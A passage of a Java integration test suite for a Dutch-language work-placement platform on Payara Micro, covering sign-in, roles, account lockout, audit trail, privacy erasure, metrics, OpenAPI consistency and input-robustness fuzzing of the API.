package org.leerwerkplek.platform.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import java.io.File;
import java.io.IOException;
import java.net.HttpCookie;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.ShrinkWrap;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.leerwerkplek.platform.api.OpenApiServlet;
import org.leerwerkplek.platform.it.transactions.SchedulerShapedProbe;
import org.leerwerkplek.platform.it.transactions.TransactionProbe;
import org.leerwerkplek.platform.it.transactions.TransactionProbeServlet;

/**
 * The foundation on a running Payara Micro: migrations, the bootstrapped admin, sign-in for pages
 * and the API, roles, throttling, cookies, error pages, health and OpenAPI. Every test makes its
 * own accounts, so the order of tests does not matter, and the same class runs on Derby and on
 * PostgreSQL.
 */
@ExtendWith(ArquillianExtension.class)
class PlatformIT {

    static final String ADMIN = System.getProperty("lwp.it.adminUser", "it-admin");
    static final String ADMIN_PASSWORD = System.getProperty("lwp.it.adminPassword");
    static final String PASSWORD = "Werfleider-Gent-2026";

    @ArquillianResource
    URL base;

    /** The application, and a probe of its transactions (test classes, {@code platform.it.transactions}). */
    @Deployment(testable = false)
    static WebArchive application() {
        return ShrinkWrap.createFromZipFile(WebArchive.class, new File(System.getProperty("lwp.war")))
                .addClasses(TransactionProbe.class, TransactionProbe.ProbeFailure.class, SchedulerShapedProbe.class,
                        TransactionProbeServlet.class);
    }

    /**
     * A JDBC write through the stores' data source is undone with its transaction, also when the
     * transaction begins inside an EJB without one (the schedulers' timers and "run now"): there a
     * pool connection was not enlisted and committed each statement on its own (auto-commit true,
     * the row left behind), so a chunk of a wave or a group of the course run was not all or nothing.
     */
    @Test
    void aStoresWritesRollBackWithTheirTransactionFromAWebRequestAndFromAScheduler() throws Exception {
        String key = UUID.randomUUID().toString();
        HttpResponse<String> probed = new WebClient(base).get("/it/transaction-probe?key=" + key);
        assertEquals(200, probed.statusCode(), probed.body());
        JsonObject seen = WebClient.json(probed).asJsonObject();
        for (String shape : List.of("web", "ejb")) {
            JsonObject one = seen.getJsonObject(shape);
            assertFalse(one.getBoolean("autoCommit"), shape + ": the store's connection is in the transaction: " + seen);
            assertEquals(0, one.getInt("left"), shape + ": the failed transaction left no row: " + seen);
        }
    }

    /** Creates an account with one role through the admin API and returns its user name. */
    static String createUser(WebClient client, String role) throws IOException, InterruptedException {
        String username = role.toLowerCase() + "-" + UUID.randomUUID().toString().substring(0, 8);
        HttpResponse<String> created = client.api("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD,
                "{\"username\":\"" + username + "\",\"password\":\"" + PASSWORD + "\",\"roles\":[\"" + role + "\"]}");
        assertEquals(201, created.statusCode(), created.body());
        return username;
    }

    @Test
    void migrationsBringTheDatabaseToTheNewestVersion() throws Exception {
        List<String> scripts = new ArrayList<>();
        // SQL migrations, and the Java ones for what SQL cannot say (V48: Derby's page size)
        for (String folder : List.of("src/main/resources/db/migration", "src/main/java/db/migration")) {
            try (Stream<Path> files = Files.list(Path.of(folder))) {
                files.map(p -> p.getFileName().toString()).filter(n -> n.matches("V\\d+__.+\\.(sql|java)")).forEach(scripts::add);
            }
        }
        int newest = scripts.stream().mapToInt(n -> Integer.parseInt(n.substring(1, n.indexOf("__")))).max().orElseThrow();

        HttpResponse<String> response = new WebClient(base).api("GET", "/api/v1/admin/schema", ADMIN, ADMIN_PASSWORD, null);

        assertEquals(200, response.statusCode(), response.body());
        JsonObject schema = WebClient.json(response).asJsonObject();
        assertEquals(String.valueOf(newest), schema.getString("currentVersion"));
        assertEquals(scripts.size(), schema.getJsonArray("applied").size());
        assertEquals(0, schema.getInt("pending"));
        String url = System.getenv().getOrDefault("LWP_DB_URL", "");
        assertEquals(url.startsWith("jdbc:postgresql:") ? "PostgreSQL" : "Apache Derby", schema.getString("databaseProduct"),
                "the database chosen by LWP_DB_URL");
    }

    @Test
    void theConfiguredAdminWasCreatedAtFirstStart() throws Exception {
        HttpResponse<String> me = new WebClient(base).api("GET", "/api/v1/me", ADMIN, ADMIN_PASSWORD, null);

        assertEquals(200, me.statusCode(), me.body());
        JsonObject body = WebClient.json(me).asJsonObject();
        assertEquals(ADMIN, body.getString("username"));
        assertEquals(List.of("ADMIN"), body.getJsonArray("roles").getValuesAs(v -> v.toString().replace("\"", "")));
    }

    @Test
    void theApiAnswers401AsJsonWithoutOrWithBadCredentials() throws Exception {
        WebClient client = new WebClient(base);
        for (HttpResponse<String> response : List.of(
                client.api("GET", "/api/v1/me", null, null, null),
                client.api("GET", "/api/v1/me", ADMIN, "wrong-password", null),
                client.api("GET", "/api/v1/me", "nobody-" + UUID.randomUUID(), "whatever", null))) {
            assertEquals(401, response.statusCode(), response.body());
            assertTrue(response.headers().firstValue("Content-Type").orElse("").startsWith("application/json"));
            assertTrue(response.headers().firstValue("WWW-Authenticate").orElse("").startsWith("Basic"));
            assertEquals("unauthorized", WebClient.json(response).asJsonObject().getString("error"));
        }
    }

    @Test
    void theApiAnswers403ForTheWrongRole() throws Exception {
        WebClient client = new WebClient(base);
        String advisor = createUser(client, "ADVISOR");

        HttpResponse<String> forbidden = client.api("GET", "/api/v1/admin/users", advisor, PASSWORD, null);
        HttpResponse<String> allowed = client.api("GET", "/api/v1/me", advisor, PASSWORD, null);

        assertEquals(403, forbidden.statusCode(), forbidden.body());
        assertEquals("forbidden", WebClient.json(forbidden).asJsonObject().getString("error"));
        assertEquals(200, allowed.statusCode());
    }

    @Test
    void apiErrorsSpeakTheCallersLanguage() throws Exception {
        WebClient client = new WebClient(base);
        String taken = createUser(client, "ANALYST");
        String body = "{\"username\":\"" + taken + "\",\"password\":\"" + PASSWORD + "\",\"roles\":[\"ANALYST\"]}";

        HttpResponse<String> conflict = client.api("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD, body);
        HttpResponse<String> invalid = client.api("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD,
                "{\"username\":\"x\",\"password\":\"kort\",\"roles\":[]}");

        assertEquals(409, conflict.statusCode(), conflict.body());
        assertEquals("De gebruikersnaam " + taken + " bestaat al.", WebClient.json(conflict).asJsonObject().getString("message"));
        assertEquals(400, invalid.statusCode(), invalid.body());
    }

    @Test
    void formSignInChangesTheSessionAndReturnsToTheRequestedPage() throws Exception {
        WebClient client = new WebClient(base);
        String advisor = createUser(client, "ADVISOR");

        HttpResponse<String> protectedPage = client.get("/companies/index.xhtml");
        assertEquals(302, protectedPage.statusCode());
        assertEquals("/login.xhtml", client.location(protectedPage));
        String sessionBefore = client.cookie("LWPSESSION").map(HttpCookie::getValue).orElseThrow();

        HttpResponse<String> signedIn = client.signIn(advisor, PASSWORD);

        assertEquals(302, signedIn.statusCode(), signedIn.body());
        assertEquals("/companies/index.xhtml", client.location(signedIn));
        String sessionAfter = client.cookie("LWPSESSION").map(HttpCookie::getValue).orElseThrow();
        assertNotEquals(sessionBefore, sessionAfter, "the session id changes at sign-in");
        String setCookie = signedIn.headers().allValues("Set-Cookie").stream()
                .filter(c -> c.startsWith("LWPSESSION=")).findFirst().orElseThrow();
        assertTrue(setCookie.contains("HttpOnly"), setCookie);
        assertTrue(setCookie.toLowerCase().contains("samesite=lax"), setCookie);
        assertEquals(200, client.get("/companies/index.xhtml").statusCode());
    }

    @Test
    void aWrongPasswordShowsOneMessageThatDoesNotSayWhatWasWrong() throws Exception {
        WebClient client = new WebClient(base);
        String advisor = createUser(client, "ADVISOR");

        HttpResponse<String> wrongPassword = client.signIn(advisor, "not-the-password");
        HttpResponse<String> unknownUser = client.signIn("nobody-" + UUID.randomUUID(), PASSWORD);

        for (HttpResponse<String> response : List.of(wrongPassword, unknownUser)) {
            assertEquals(200, response.statusCode());
            assertTrue(response.body().contains("Aanmelden is niet gelukt"), "the one failure message");
        }
        assertEquals(302, client.get("/index.xhtml").statusCode(), "still signed out");
    }

    @Test
    void eachRoleOpensOnlyItsPagesAndSeesOnlyItsMenu() throws Exception {
        WebClient client = new WebClient(base);
        String advisor = createUser(client, "ADVISOR");
        client.signIn(advisor, PASSWORD);

        HttpResponse<String> home = client.get("/index.xhtml");
        HttpResponse<String> admin = client.get("/admin/users.xhtml");

        assertEquals(200, home.statusCode());
        assertEquals(List.of("COMPANIES", "PLACEMENTS", "SURVEYS", "MENTOR_COURSE"), menuParts(home.body()),
                "advisors follow their companies, their placements and their mentors in the course");
        assertEquals(200, client.get("/surveys/index.xhtml").statusCode());
        assertEquals(403, admin.statusCode());
        assertTrue(admin.body().contains("Geen toegang"), "the 403 page");
        assertEquals(403, client.get("/analysis/index.xhtml").statusCode());

        WebClient adminClient = new WebClient(base);
        adminClient.signIn(ADMIN, ADMIN_PASSWORD);
        assertEquals(List.of("COMPANIES", "PLACEMENTS", "SURVEYS", "FIELDWORK", "ANALYSIS", "MENTOR_COURSE", "ADMIN"),
                menuParts(adminClient.get("/index.xhtml").body()));
        assertEquals(200, adminClient.get("/admin/users.xhtml").statusCode());
    }

    @Test
    void anAdminCreatesAnAdvisorThroughTheAdminPage() throws Exception {
        WebClient adminClient = new WebClient(base);
        adminClient.signIn(ADMIN, ADMIN_PASSWORD);
        String username = "advisor-page-" + UUID.randomUUID().toString().substring(0, 8);

        HttpResponse<String> created = adminClient.submit("/admin/users.xhtml", "createForm",
                Map.of("username", username, "password", PASSWORD, "roles", "ADVISOR"), "create");

        assertEquals(200, created.statusCode());
        assertTrue(created.body().contains(username), created.body());
        HttpResponse<String> me = adminClient.api("GET", "/api/v1/me", username, PASSWORD, null);
        assertEquals(200, me.statusCode(), me.body());
        assertEquals("ADVISOR", WebClient.json(me).asJsonObject().getJsonArray("roles").getString(0));
    }

    @Test
    void signingOutEndsTheSession() throws Exception {
        WebClient client = new WebClient(base);
        String analyst = createUser(client, "ANALYST");
        client.signIn(analyst, PASSWORD);
        assertEquals(200, client.get("/analysis/index.xhtml").statusCode());

        HttpResponse<String> signedOut = client.submit("/index.xhtml", "accountForm", Map.of(), "signOut");

        assertEquals(302, signedOut.statusCode());
        assertEquals("/login.xhtml", client.location(signedOut));
        assertEquals(302, client.get("/analysis/index.xhtml").statusCode());
    }

    @Test
    void repeatedFailuresLockTheAccountUntilAnAdminResetsThePassword() throws Exception {
        WebClient client = new WebClient(base);
        String mentor = createUser(client, "MENTOR");
        // The IT configuration: 2 free failures, then a 6 s wait, and a lock at the 3rd failure (see the pom).
        for (int i = 0; i < 2; i++) {
            assertEquals(401, client.api("GET", "/api/v1/me", mentor, "wrong-" + i, null).statusCode());
        }
        assertEquals(401, client.api("GET", "/api/v1/me", mentor, PASSWORD, null).statusCode(), "slowed down");
        Thread.sleep(6100);
        assertEquals(401, client.api("GET", "/api/v1/me", mentor, "wrong-again", null).statusCode());

        assertEquals(401, client.api("GET", "/api/v1/me", mentor, PASSWORD, null).statusCode(), "locked");
        HttpResponse<String> view = client.api("GET", "/api/v1/admin/users/" + mentor, ADMIN, ADMIN_PASSWORD, null);
        assertTrue(WebClient.json(view).asJsonObject().getBoolean("locked"), view.body());

        String newPassword = "Nieuwe-Sleutel-2026";
        HttpResponse<String> reset = client.api("PUT", "/api/v1/admin/users/" + mentor + "/password", ADMIN,
                ADMIN_PASSWORD, "{\"password\":\"" + newPassword + "\"}");
        assertEquals(200, reset.statusCode(), reset.body());
        assertEquals(200, client.api("GET", "/api/v1/me", mentor, newPassword, null).statusCode());
    }

    @Test
    void aDisabledAccountCannotSignIn() throws Exception {
        WebClient client = new WebClient(base);
        String analyst = createUser(client, "ANALYST");
        HttpResponse<String> disabled = client.api("PUT", "/api/v1/admin/users/" + analyst + "/enabled", ADMIN,
                ADMIN_PASSWORD, "{\"enabled\":false}");
        assertEquals(200, disabled.statusCode(), disabled.body());

        assertEquals(401, client.api("GET", "/api/v1/me", analyst, PASSWORD, null).statusCode());
        assertTrue(client.signIn(analyst, PASSWORD).body().contains("Aanmelden is niet gelukt"));
    }

    @Test
    void errorPagesSendTheUserSomewhereUseful() throws Exception {
        WebClient client = new WebClient(base);
        client.signIn(ADMIN, ADMIN_PASSWORD);

        HttpResponse<String> missing = client.get("/no-such-page.xhtml");
        assertEquals(404, missing.statusCode());
        assertTrue(missing.body().contains("Pagina niet gevonden"));
        assertTrue(missing.body().contains("index.xhtml"), "a link to the start page");

        HttpResponse<String> expired = client.post("/admin/users.xhtml", "createForm",
                Map.of("username", "x"), "create", "-123:-456");
        assertEquals(302, expired.statusCode(), expired.body());
        assertEquals("/errors/expired.xhtml", client.location(expired));
        HttpResponse<String> expiredPage = client.get(client.location(expired));
        assertTrue(expiredPage.body().contains("Pagina verlopen"), expiredPage.body());
        assertTrue(expiredPage.body().contains("login.xhtml"), "a link to sign in again");
    }

    @Test
    void healthChecksTheDatabaseAndOpenApiDescribesTheApi() throws Exception {
        WebClient client = new WebClient(rootOf(base));

        HttpResponse<String> health = client.get("/health");
        HttpResponse<String> openapi = new WebClient(base).get("/openapi");

        assertEquals(200, health.statusCode(), health.body());
        JsonObject status = WebClient.json(health).asJsonObject();
        assertEquals("UP", status.getString("status"));
        JsonArray checks = status.getJsonArray("checks");
        assertTrue(checks.stream().anyMatch(c -> c.asJsonObject().getString("name").equals("database")
                && c.asJsonObject().getString("status").equals("UP")), health.body());
        assertEquals(200, openapi.statusCode());
        assertTrue(openapi.body().contains("/api/v1/admin/users"), "the user API is described");
        assertTrue(openapi.body().contains("/api/v1/me"));
    }

    /**
     * {@code /metrics} answers without sign-in with the application's metrics next to Payara's: the
     * names an operator watches, every gauge read from this database (none NaN), and the request
     * timer counting a request of the API, none of it naming an account.
     */
    @Test
    void metricsShowTheApplicationsGaugesAndCountRequests() throws Exception {
        WebClient root = new WebClient(rootOf(base));
        HttpResponse<String> all = root.get("/metrics");
        double apiBefore = metric(root.get("/metrics?scope=application").body(), "lwp_http_requests_seconds_count", "kind=\"api\"");

        HttpResponse<String> me = new WebClient(base).api("GET", "/api/v1/me", ADMIN, ADMIN_PASSWORD, null);
        HttpResponse<String> application = root.get("/metrics?scope=application");
        // A gauge shows NaN until its source's first read ends (a scrape waits 2 s for it): on a busy machine
        // the first read after the start may take longer, so look again for up to a minute.
        long deadline = System.nanoTime() + java.util.concurrent.TimeUnit.MINUTES.toNanos(1);
        while (application.body().contains("} NaN") && System.nanoTime() < deadline) {
            Thread.sleep(200);
            application = root.get("/metrics?scope=application");
        }

        assertEquals(200, me.statusCode());
        assertEquals(200, all.statusCode(), all.body());
        assertTrue(all.body().contains("jvm_uptime_seconds"), "Payara's own metrics are there too");
        assertEquals(200, application.statusCode(), application.body());
        String body = application.body();
        for (String name : List.of("lwp_http_requests_seconds_count", "lwp_http_requests_seconds_bucket", "lwp_http_errors_total",
                "lwp_outbox_queued", "lwp_outbox_due", "lwp_outbox_failed", "lwp_outbox_bounced",
                "lwp_outbox_oldest_queued_age_seconds", "lwp_jobs", "lwp_fieldwork_invitations_due",
                "lwp_fieldwork_reminders_due", "lwp_course_deliveries_due", "lwp_metrics_read_failures_total")) {
            assertTrue(Pattern.compile("^" + name + "\\{", Pattern.MULTILINE).matcher(body).find(), name + " in\n" + body);
        }
        for (String gauge : List.of("lwp_outbox_queued", "lwp_outbox_oldest_queued_age_seconds", "lwp_fieldwork_reminders_due",
                "lwp_course_deliveries_due")) {
            assertFalse(Double.isNaN(metric(body, gauge, "")), gauge + " is read from the database");
        }
        assertFalse(Double.isNaN(metric(body, "lwp_jobs", "state=\"running\"")));
        assertEquals(0.0, metric(body, "lwp_metrics_read_failures_total", "source=\"outbox\""), body);
        assertTrue(metric(body, "lwp_http_requests_seconds_count", "kind=\"api\"") >= apiBefore + 1,
                "the API request was counted: " + apiBefore + " before");
        assertFalse(all.body().contains(ADMIN) || body.contains(ADMIN), "no account's name");
    }

    /** The value of the first sample of {@code name} whose labels contain {@code label}; fails when there is none. */
    private static double metric(String scrape, String name, String label) {
        Matcher sample = Pattern.compile("^" + Pattern.quote(name) + "\\{([^}]*)\\} (\\S+)$", Pattern.MULTILINE).matcher(scrape);
        while (sample.find()) {
            if (sample.group(1).contains(label)) {
                return Double.parseDouble(sample.group(2));
            }
        }
        throw new AssertionError("no " + name + "{" + label + "} in\n" + scrape);
    }

    /**
     * A page is sent only once it is rendered: the flash (messages kept across a redirect) sets its
     * cookie at the end of the request, which a response already sent in chunks no longer allows
     * (Mojarra logs JSF1095 and the cookie stays, so every later page logs it again).
     */
    @Test
    void aPageIsSentWholeAfterRenderingSoTheFlashCanSetItsCookie() throws Exception {
        WebClient client = new WebClient(base);
        client.signIn(ADMIN, ADMIN_PASSWORD);
        // One node (deploy/single-node.asadmin): sessions in memory, so no JSESSIONIDVERSION beside the session's id
        // (Payara's cookie for sessions kept in the data grid, which alone logged "Hazelcast is not enabled" per request).
        assertTrue(client.cookie("JSESSIONIDVERSION").isEmpty(), "a session of one node has no version cookie");
        String session = client.cookie("LWPSESSION").map(HttpCookie::getValue).orElseThrow();

        // HTTP/1.1 as browsers speak it to this server (the JDK client would otherwise try HTTP/2)
        HttpResponse<String> page = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                .build().send(HttpRequest.newBuilder(client.uri("/admin/users.xhtml"))
                        .header("Cookie", "LWPSESSION=" + session).GET().build(),
                        HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));

        assertEquals(200, page.statusCode());
        assertTrue(page.body().length() > 8192, "larger than the server's default buffer: " + page.body().length());
        assertEquals(String.valueOf(page.body().getBytes(StandardCharsets.UTF_8).length),
                page.headers().firstValue("Content-Length").orElse("chunked"), "sent whole, not in chunks");
    }

    /**
     * {@code /openapi} answers with the stored document ({@link OpenApiServlet}), which must be the one Payara
     * scans from the code (its own endpoint, {@code /openapi/} of the root web application, with
     * {@code OpenApiDates} applied): every path, operation, parameter, schema and security scheme. The scanned
     * document is written to {@code target/openapi-scanned.json}, the file to copy over the stored one after an
     * API change.
     */
    @Test
    void openApiAnswersWithTheStoredDocumentWhichIsTheOnePayaraScansFromTheCode() throws Exception {
        HttpResponse<String> served = new WebClient(base).api("GET", "/openapi", null, null, null);
        // Payara scans on this first request: 4 s on a quiet machine, over a minute on a busy one
        HttpResponse<String> scanned = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build().send(HttpRequest.newBuilder(
                        new WebClient(rootOf(base)).uri("/openapi/")).header("Accept", "application/json")
                .timeout(java.time.Duration.ofMinutes(5)).GET().build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));

        assertEquals(200, served.statusCode(), served.body());
        assertEquals(200, scanned.statusCode(), scanned.body());
        JsonObject document = WebClient.json(served).asJsonObject();
        java.net.URI server = java.net.URI.create(document.getJsonArray("servers").getJsonObject(0).getString("url"));
        assertEquals(base.getPort(), server.getPort(), "the server is this one: " + server);
        assertEquals(base.getPath(), server.getPath(), "with the application's context path: " + server);
        JsonObject stored = without(document, "servers");
        JsonObject fromCode = without(WebClient.json(scanned).asJsonObject(), "servers", "endpoints");
        Path written = Path.of("target", "openapi-scanned.json");
        Files.writeString(written, OpenApiServlet.json(fromCode));
        assertEquals(OpenApiServlet.stored(), stored, "/openapi answers with the stored document");
        assertTrue(fromCode.getJsonObject("paths").containsKey("/api/v1/admin/users"), "Payara scanned the application");
        assertEquals(List.of(), differences("", stored, fromCode), "the stored OpenAPI document differs from the code;"
                + " copy " + written.toAbsolutePath() + " to src/main/resources"
                + OpenApiServlet.DOCUMENT);
    }

    private static JsonObject without(JsonObject object, String... keys) {
        jakarta.json.JsonObjectBuilder copy = jakarta.json.Json.createObjectBuilder(object);
        for (String key : keys) {
            copy.remove(key);
        }
        return copy.build();
    }

    /** Where two documents differ, as paths like {@code paths./api/v1/me.get} (at most four levels deep). */
    private static List<String> differences(String at, jakarta.json.JsonValue stored, jakarta.json.JsonValue scanned) {
        if (stored.equals(scanned)) {
            return List.of();
        }
        if (at.chars().filter(c -> c == '.').count() >= 4 || stored.getValueType() != jakarta.json.JsonValue.ValueType.OBJECT
                || scanned.getValueType() != jakarta.json.JsonValue.ValueType.OBJECT) {
            return List.of((at.isEmpty() ? "(document)" : at) + ": stored " + abbreviated(stored) + ", scanned " + abbreviated(scanned));
        }
        List<String> found = new java.util.ArrayList<>();
        Set<String> keys = new TreeSet<>(stored.asJsonObject().keySet());
        keys.addAll(scanned.asJsonObject().keySet());
        for (String key : keys) {
            String here = at.isEmpty() ? key : at + "." + key;
            jakarta.json.JsonValue left = stored.asJsonObject().get(key);
            jakarta.json.JsonValue right = scanned.asJsonObject().get(key);
            if (left == null || right == null) {
                found.add(here + (left == null ? ": only in the code" : ": only in the stored document"));
            } else {
                found.addAll(differences(here, left, right));
            }
        }
        return found;
    }

    private static String abbreviated(jakarta.json.JsonValue value) {
        String text = value.toString();
        return text.length() > 200 ? text.substring(0, 200) + "..." : text;
    }

    @Test
    void theAuditTrailRecordsSignInsAndAccountChangesWithoutTheirValuesAndVerifies() throws Exception {
        WebClient client = new WebClient(base);
        String unknown = "nobody-" + UUID.randomUUID().toString().substring(0, 8);
        String username = "audited-" + UUID.randomUUID().toString().substring(0, 8);
        String email = username + "@werf.example";
        String name = "Audit Persoon " + username;
        client.api("GET", "/api/v1/me", unknown, "whatever", null);
        HttpResponse<String> created = client.api("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD,
                "{\"username\":\"" + username + "\",\"displayName\":\"" + name + "\",\"email\":\"" + email
                        + "\",\"password\":\"" + PASSWORD + "\",\"roles\":[\"ANALYST\"]}");
        assertEquals(201, created.statusCode(), created.body());

        HttpResponse<String> failures = client.api("GET", "/api/v1/admin/audit?action=SIGN_IN_FAILED&who=anonymous",
                ADMIN, ADMIN_PASSWORD, null);
        HttpResponse<String> creations = client.api("GET", "/api/v1/admin/audit?action=CREATE&objectKind=account&size=5",
                ADMIN, ADMIN_PASSWORD, null);
        assertEquals(200, failures.statusCode(), failures.body());
        assertTrue(WebClient.json(failures).asJsonObject().getInt("total") >= 1, failures.body());
        JsonObject newest = WebClient.json(creations).asJsonObject().getJsonArray("items").getJsonObject(0);
        assertEquals(ADMIN, newest.getString("actor"));
        List<String> fields = newest.getJsonArray("changes").getValuesAs(JsonObject.class).stream()
                .map(c -> c.getString("field")).toList();
        assertTrue(fields.containsAll(List.of("username", "displayName", "email", "roles")), fields.toString());
        for (String value : List.of(unknown, email, name, username)) {
            assertFalse(failures.body().contains(value) || creations.body().contains(value), "no personal value: " + value);
        }

        HttpResponse<String> check = client.api("POST", "/api/v1/admin/audit/verify", ADMIN, ADMIN_PASSWORD, "{}");
        assertEquals(200, check.statusCode(), check.body());
        assertTrue(WebClient.json(check).asJsonObject().getBoolean("intact"), check.body());
        HttpResponse<String> csv = client.download("/api/v1/admin/audit/export?objectKind=account", ADMIN, ADMIN_PASSWORD);
        assertTrue(csv.body().startsWith("seq,occurred_at,actor_kind,actor,action"), csv.body());
    }

    @Test
    void anAdminHandsOverAndErasesTheDataOfAnAccountByItsAddressAndNoTraceIsLeft() throws Exception {
        WebClient client = new WebClient(base);
        String username = "erased-later-" + UUID.randomUUID().toString().substring(0, 8);
        String email = username + "@werf.example";
        String name = "Te Wissen " + username.substring(13);
        assertEquals(201, client.api("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD,
                "{\"username\":\"" + username + "\",\"displayName\":\"" + name + "\",\"email\":\"" + email
                        + "\",\"password\":\"" + PASSWORD + "\",\"roles\":[\"ADVISOR\"]}").statusCode());

        HttpResponse<String> data = client.api("GET", "/api/v1/admin/privacy/person?email=" + email.toUpperCase(),
                ADMIN, ADMIN_PASSWORD, null);
        HttpResponse<String> report = client.download("/api/v1/admin/privacy/person/report?email=" + email,
                ADMIN, ADMIN_PASSWORD);
        assertEquals(200, data.statusCode(), data.body());
        assertTrue(data.body().contains(name) && report.body().contains(name), report.body());

        HttpResponse<String> erased = client.api("POST", "/api/v1/admin/privacy/erase", ADMIN, ADMIN_PASSWORD,
                "{\"email\":\"" + email + "\"}");
        assertEquals(200, erased.statusCode(), erased.body());
        assertEquals(1, WebClient.json(erased).asJsonObject().getJsonArray("erased").size(), erased.body());
        HttpResponse<String> traces = client.api("GET", "/api/v1/admin/privacy/traces?text=" + email + "&text="
                + name.replace(" ", "%20") + "&text=" + username, ADMIN, ADMIN_PASSWORD, null);
        assertEquals("[]", traces.body().strip(), "nothing left anywhere in the database");
        assertEquals(401, client.api("GET", "/api/v1/me", username, PASSWORD, null).statusCode());
        HttpResponse<String> bad = client.api("POST", "/api/v1/admin/privacy/erase", ADMIN, ADMIN_PASSWORD,
                "{\"email\":\"geen adres\"}");
        assertEquals(400, bad.statusCode(), bad.body());
    }

    @Test
    void anAdminTakesABackupOnDerbyAndIsSentToPgDumpOnPostgresql() throws Exception {
        WebClient client = new WebClient(base);
        boolean postgres = System.getenv().getOrDefault("LWP_DB_URL", "").startsWith("jdbc:postgresql:");

        HttpResponse<String> made = client.api("POST", "/api/v1/admin/backups", ADMIN, ADMIN_PASSWORD, "{}");
        HttpResponse<String> list = client.api("GET", "/api/v1/admin/backups", ADMIN, ADMIN_PASSWORD, null);

        assertEquals(200, list.statusCode(), list.body());
        assertEquals(!postgres, WebClient.json(list).asJsonObject().getBoolean("supported"));
        if (postgres) {
            assertEquals(409, made.statusCode(), made.body());
        } else {
            assertEquals(201, made.statusCode(), made.body());
            String name = WebClient.json(made).asJsonObject().getString("name");
            assertTrue(list.body().contains(name), list.body());
        }
    }

    @Test
    void theRetentionRulesAreListedWithTheirPeriods() throws Exception {
        HttpResponse<String> rules = new WebClient(base).api("GET", "/api/v1/admin/privacy/retention", ADMIN,
                ADMIN_PASSWORD, null);

        assertEquals(200, rules.statusCode(), rules.body());
        List<String> keys = WebClient.json(rules).asJsonArray().getValuesAs(JsonObject.class).stream()
                .map(r -> r.getString("key")).toList();
        assertTrue(keys.containsAll(List.of("audit", "mail")), keys.toString());
    }

    private static List<String> menuParts(String html) {
        Matcher matcher = Pattern.compile("data-part=\"([A-Z_]+)\"").matcher(html);
        List<String> parts = new java.util.ArrayList<>();
        while (matcher.find()) {
            parts.add(matcher.group(1));
        }
        return parts;
    }

    private static URL rootOf(URL url) throws IOException {
        return new URL(url.getProtocol(), url.getHost(), url.getPort(), "/");
    }

    // ---- hardening: the API and the pages as an attacker tries them ----------------------------------

    /**
     * Reads {@code /openapi} and sends malformed input to every operation it lists (see {@link ApiFuzz}):
     * no answer is a 5xx, every error is the API's JSON, syntax errors name line and column, a value of
     * the wrong type names its field, and every text field of every body has a length limit.
     */
    @Test
    void everyOperationAnswersMalformedInputWithAJsonErrorAndNever5xx() throws Exception {
        WebClient client = new WebClient(base);
        String target = createUser(client, "MENTOR");
        HttpResponse<String> openapi = new WebClient(base).api("GET", "/openapi", null, null, null);
        assertEquals(200, openapi.statusCode());
        JsonObject document = WebClient.json(openapi).asJsonObject();
        String none = "987654321";  // no such company, visit, action, wave or mail: a body that happens to fit changes nothing
        Map<String, String> pathValues = Map.ofEntries(Map.entry("id", none), Map.entry("visit", none),
                Map.entry("action", none), Map.entry("snapshot", none), Map.entry("year", "1"),
                Map.entry("instrument", "werkgeversbevraging"), Map.entry("username", target),
                Map.entry("section", "bedrijf"), Map.entry("token", "x"), Map.entry("code", "x"));
        ApiFuzz fuzz = new ApiFuzz(base.toURI(), ADMIN, ADMIN_PASSWORD, document, pathValues);

        fuzz.run(document);

        List<String> problems = fuzz.answers().stream().map(ApiFuzz.Answer::problem).flatMap(java.util.Optional::stream)
                .toList();
        assertTrue(fuzz.answers().size() > 300, "the fuzz reached the operations: " + fuzz.answers().size());
        assertTrue(fuzz.answers().stream().filter(a -> a.sent().length() > ApiFuzz.HUGE).count() > 20,
                "text fields were found in the bodies");
        assertEquals(List.of(), problems, problems.size() + " of " + fuzz.answers().size() + " requests");
        assertEquals(200, client.api("GET", "/api/v1/admin/users/" + target, ADMIN, ADMIN_PASSWORD, null).statusCode());
        assertEquals(200, client.api("GET", "/api/v1/me", target, PASSWORD, null).statusCode(),
                "the account whose name the fuzz used is unchanged");
    }

    @Test
    void aHundredKilobyteDisplayNameIsRefusedWithItsLimitInTheCallersLanguage() throws Exception {
        WebClient client = new WebClient(base);
        String username = "long-" + UUID.randomUUID().toString().substring(0, 8);
        byte[] body = ("{\"username\":\"" + username + "\",\"displayName\":\"" + "x".repeat(100_000) + "\",\"password\":\""
                + PASSWORD + "\",\"roles\":[\"ADVISOR\"]}").getBytes(StandardCharsets.UTF_8);
        Map<String, String> expected = Map.of("nl", "Veld displayName: hoogstens 200 tekens.",
                "fr", "Champ displayName\u00A0: au plus 200 caractères.", "en", "Field displayName: at most 200 characters.");

        for (Map.Entry<String, String> language : expected.entrySet()) {
            HttpResponse<String> refused = client.send("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD,
                    "application/json", body, "Accept-Language", language.getKey());
            assertEquals(400, refused.statusCode(), refused.body());
            JsonObject error = WebClient.json(refused).asJsonObject();
            assertEquals("bad-request", error.getString("error"));
            assertEquals(language.getValue(), error.getString("message"));
